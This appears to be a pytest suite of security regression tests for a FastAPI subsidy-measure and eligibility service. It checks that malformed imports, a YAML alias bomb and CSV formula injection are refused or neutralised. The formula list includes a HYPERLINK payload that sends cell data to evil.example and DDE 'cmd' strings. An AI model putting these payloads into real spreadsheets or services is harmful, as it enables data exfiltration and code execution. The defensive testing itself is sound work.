"""Input that once reached a 500 or slipped through validation (from a review of the code)."""

import csv
import io
import time
from collections.abc import Callable

import pytest
from fastapi.testclient import TestClient

from policies.keys import Role
from tests.factories import measure_data

PROFILE = {"name": "测试企业", "region": "510108"}


def test_unicode_case_folding_in_place_names(client: TestClient) -> None:
    assert client.get("/v1/search", params={"q": "ſhanghai ſubsidy"}).status_code == 200


def test_if_match_with_odd_digits(client: TestClient, curator: dict[str, str]) -> None:
    client.post("/v1/measures", json=measure_data(), headers=curator)
    response = client.patch("/v1/measures/ZJ-WZ-TEST-AWARD", json={"title_en": "New title"},
                            headers=curator | {"If-Match": '"²"'.encode("latin-1")})  # type: ignore[dict-item]
    assert response.status_code == 400


def test_absurd_numbers_are_refused(client: TestClient, curator: dict[str, str],
                                    auth: Callable[[Role], dict[str, str]]) -> None:
    huge = client.post("/v1/measures", json=measure_data(benefit={"kind": "fixed", "amount": 10**400}),
                       headers=curator)
    assert huge.status_code == 422
    nan = client.post("/v1/measures", headers=curator | {"Content-Type": "application/json"},
                      content=b'{"code": "X-NAN", "criteria": [{"type": "numeric", "field": "employees", '
                              b'"op": "gte", "value": NaN}]}')
    assert nan.status_code == 422
    assert "criteria[0].value" in {e["field"].removeprefix("body.") for e in nan.json()["errors"]}
    portal = auth(Role.portal)
    rich = client.post("/v1/eligibility", json={"profile": PROFILE | {"operating_revenue": 10**400}}, headers=portal)
    assert rich.status_code == 422
    future = client.post("/v1/eligibility", json={"profile": PROFILE, "as_of": "9999-01-01"}, headers=portal)
    assert future.status_code == 422
    assert client.get("/v1/firms/99999999999999999999", headers=portal).status_code == 422


def test_patch_cannot_null_the_criteria(client: TestClient, curator: dict[str, str]) -> None:
    etag = client.post("/v1/measures", json=measure_data(), headers=curator).headers["ETag"]
    response = client.patch("/v1/measures/ZJ-WZ-TEST-AWARD", json={"criteria": None, "body": None},
                            headers=curator | {"If-Match": etag})
    assert response.status_code == 422
    assert "criteria" in response.json()["detail"]
    cleared = client.patch("/v1/measures/ZJ-WZ-TEST-AWARD", json={"body": None}, headers=curator | {"If-Match": etag})
    assert cleared.status_code == 200


def test_keys_without_a_tenant_share_nothing(client: TestClient, auth: Callable[[Role], dict[str, str]]) -> None:
    first, second = auth(Role.portal), auth(Role.portal)
    created = client.post("/v1/firms", json={"profile": PROFILE, "external_ref": "a"}, headers=first)
    assert created.status_code == 201
    assert client.get(f"/v1/firms/{created.json()['id']}", headers=second).status_code == 404
    again = client.post("/v1/firms", json={"profile": PROFILE, "external_ref": "a"}, headers=first)
    assert again.status_code == 409


# Import files from outside (an outside security review): each used to answer 500 text/plain, store an
# alias-expanded row, or silently drop data. Each now answers problem+json naming what is wrong.

_DEEP = "[" * 2_000 + "]" * 2_000
_MALFORMED_IMPORTS = {
    "json nested 2,000 deep": ("json", _DEEP, "nested deeper than 64 levels"),
    "yaml nested 2,000 deep": ("yaml", _DEEP, "nested deeper than 64 levels"),
    "yaml mapping 3,000 deep": ("yaml", "".join(" " * n + "a:\n" for n in range(3_000)), "line 65: nested deeper"),
    "csv criteria cell 2,000 deep": ("csv", f'code,criteria\nX-1,"{_DEEP}"\n', "line 2, column criteria"),
    "csv cell over the csv limit": ("csv", "code,body\nX-1," + "a" * 131_073 + "\n", "field larger than field limit"),
    "yaml anchor": ("yaml", "- code: A\n  criteria: &c []\n", "line 2: YAML anchors (&c) are not read"),
    "json duplicate key": ("json", '[{"code": "X-1",\n "criteria": [],\n "criteria": []}]',
                           "line 3: key 'criteria' appears twice"),
    "yaml duplicate key": ("yaml", "- code: X-1\n  criteria: []\n  criteria: []\n", "line 3: key 'criteria' appears twice"),
    "csv duplicate column": ("csv", "code,title_en,title_en\nX-1,a,b\n", "column 'title_en' appears more than once"),
    "json integer of 5,000 digits": ("json", '[{"code": ' + "9" * 5_000 + "}]", "4300 digits"),
    "yaml impossible date": ("yaml", "- code: X-1\n  effective_from: 2026-02-30\n", "line 2: day is out of range"),
}


@pytest.mark.parametrize("case", _MALFORMED_IMPORTS, ids=list(_MALFORMED_IMPORTS))
def test_malformed_import_files_are_400_problems_naming_the_fault(client: TestClient, curator: dict[str, str],
                                                                   case: str) -> None:
    fmt, text, message = _MALFORMED_IMPORTS[case]
    for dry_run in ("true", "false"):
        response = client.post(f"/v1/measures/import?format={fmt}&dry_run={dry_run}", content=text.encode(),
                               headers=curator)
        assert response.status_code == 400, response.text
        assert response.headers["content-type"] == "application/problem+json"
        assert message in response.json()["detail"]
    assert client.get("/v1/measures", headers=curator).json()["total"] == 0


def test_yaml_billion_laughs_is_refused_at_once(client: TestClient, curator: dict[str, str]) -> None:
    """818 bytes of nested any_of aliases once stored a 7.4 MB criteria row; 903 took 9.4 s as a dry run."""
    lines = ["- code: ZJ-WZ-LAUGHS", "  laugh0: &l0 {type: manual, text: ha ha ha}"]
    # Four levels (6,561 leaves) keep the test fast on code that expands them; the review's bombs had eight.
    lines += [f"  laugh{n}: &l{n} {{type: any_of, criteria: [" + ", ".join([f"*l{n - 1}"] * 9) + "]}"
              for n in range(1, 5)]
    lines.append("  criteria: [*l4]")
    started = time.perf_counter()
    response = client.post("/v1/measures/import?format=yaml&dry_run=true", content="\n".join(lines),
                           headers=curator)
    assert response.status_code == 400, response.text
    assert response.json()["detail"] == "not valid yaml: line 2: YAML anchors (&l0) are not read: write each value out in full"
    assert time.perf_counter() - started < 1


@pytest.mark.parametrize(("fmt", "body"), [
    ("csv", b""), ("json", b""), ("yaml", b"\xef\xbb\xbf \n"),  # nothing at all, or a byte-order mark and blanks
    ("csv", b"code,title_en\n"), ("json", b"[]"), ("yaml", b"measures: []\n"),  # a file that holds no measure
])
def test_an_import_with_nothing_to_import_is_refused_on_field_body(client: TestClient, curator: dict[str, str],
                                                                   fmt: str, body: bytes) -> None:
    response = client.post(f"/v1/measures/import?format={fmt}", content=body, headers=curator)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert [error["field"] for error in response.json()["errors"]] == ["body"]
    assert "nothing to import" in response.text or "empty" in response.text


_FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_measure_export_neutralises_formula_cells(client: TestClient, curator: dict[str, str]) -> None:
    records = [measure_data(code=f"ZJ-WZ-FORMULA-{n}", status="published", title_en=formula, body=formula,
                            authority=f"{formula[0]}{formula}") for n, formula in enumerate(_FORMULAS)]
    assert client.post("/v1/measures/import", json=records, headers=curator).status_code == 200
    for headers in ({}, curator):  # the public export and the curators' one
        text = client.get("/v1/measures/export?format=csv", headers=headers).text
        cells = _csv_cells(text)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert set(_FORMULAS) <= {cell.removeprefix("'") for cell in cells}


def test_candidates_csv_neutralises_a_firm_name_typed_by_a_portal(client: TestClient, curator: dict[str, str],
                                                                   auth: Callable[[Role], dict[str, str]]) -> None:
    measure = measure_data(code="CN-OPEN-TO-ALL", status="published", jurisdiction=["000000"], industries=[],
                           criteria=[])
    assert client.post("/v1/measures/import", json=[measure], headers=curator).status_code == 200
    portal = auth(Role.portal)
    for n, formula in enumerate(_FORMULAS):
        stored = client.post("/v1/firms", json={"profile": PROFILE | {"name": formula}, "external_ref": f"{formula}{n}"},
                             headers=portal)
        assert stored.status_code == 201, stored.text
    exported = client.get("/v1/measures/CN-OPEN-TO-ALL/candidates", params={"format": "csv"}, headers=curator)
    assert exported.status_code == 200, exported.text
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert sorted(row["name"] for row in rows) == sorted(f"'{formula}" for formula in _FORMULAS)
    assert all(row["external_ref"].startswith("'") for row in rows)
    assert all(float(row["relevance"]) == float(row["relevance"]) for row in rows)  # numbers stay bare numbers
